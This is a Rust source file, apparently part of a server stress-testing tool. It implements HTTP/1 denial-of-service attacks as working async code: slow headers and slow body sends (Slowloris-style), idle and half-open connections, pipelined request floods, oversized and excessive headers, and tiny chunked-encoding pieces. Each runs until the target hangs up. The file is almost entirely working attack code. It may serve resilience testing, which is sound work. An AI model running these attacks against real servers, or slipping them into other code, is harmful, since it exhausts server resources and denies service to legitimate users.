//! What can be done with the text of HTTP/1.

use std::time::Duration;

use tokio::time::sleep;

use super::{Attack, Attacker, End};

/// Between the bytes of who is slow.
const SLOW: Duration = Duration::from_millis(500);

/// Attacks until the target hangs up, which is an error, or for ever.
pub(super) async fn attack(attack: Attack, mut peer: Attacker<'_>) -> Result<(), End> {
    let path = peer.target.path.clone();
    let begin = |verb: &str| format!("{verb} {path} HTTP/1.1\r\nHost: target\r\n");
    match attack {
        Attack::HalfOpen => peer.wait_for_the_end().await,
        Attack::Idle => {
            peer.send(format!("{}\r\n", begin("GET")).as_bytes()).await?;
            peer.wait_for_the_end().await
        }
        Attack::SlowHead => {
            for byte in begin("GET").bytes() {
                peer.send_and_hear(&[byte]).await?;
                sleep(SLOW).await;
            }
            loop {
                peer.send_and_hear(b"X-More: a\r\n").await?;
                sleep(SLOW).await;
            }
        }
        Attack::SlowBody => {
            peer.send(format!("{}Content-Length: 100000\r\n\r\n", begin("POST")).as_bytes()).await?;
            loop {
                peer.send_and_hear(b" ").await?;
                sleep(SLOW).await;
            }
        }
        Attack::Pipelined => {
            let requests = format!("{}\r\n", begin("GET")).repeat(100);
            loop {
                peer.send(requests.as_bytes()).await?;
            }
        }
        Attack::HugeHead => {
            peer.send(format!("{}X-Huge: ", begin("GET")).as_bytes()).await?;
            let piece = vec![b'a'; 64 << 10];
            loop {
                peer.send_and_hear(&piece).await?;
            }
        }
        Attack::ManyHeaders => {
            peer.send(begin("GET").as_bytes()).await?;
            let piece = "X: a\r\n".repeat(1000);
            loop {
                peer.send_and_hear(piece.as_bytes()).await?;
            }
        }
        Attack::SmallChunks => {
            peer.send(format!("{}Transfer-Encoding: chunked\r\n\r\n", begin("POST")).as_bytes()).await?;
            let piece = "1;a=b\r\n \r\n".repeat(1000);
            loop {
                peer.send_and_hear(piece.as_bytes()).await?;
            }
        }
        other => unreachable!("{other:?} is of HTTP/2"),
    }
}
